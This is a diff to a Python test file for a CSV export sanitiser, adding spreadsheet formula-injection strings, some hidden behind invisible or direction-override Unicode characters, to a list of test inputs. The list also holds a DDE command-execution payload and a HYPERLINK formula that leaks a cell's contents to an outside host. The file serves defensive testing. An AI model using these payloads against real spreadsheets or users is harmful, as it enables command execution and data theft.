@@ -15,6 +15,11 @@ from tests.delivery.world import World
 from tapestry.delivery.csv_text import as_csv, safe
 
 FORMULAS = [
+    "-1|'C'!A0",
+    "\xad=1",
+    "\u2060+cmd|x",
+    "\u202e@SUM(1)",
+    "\x9f=1",
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://x/?"&A1)',
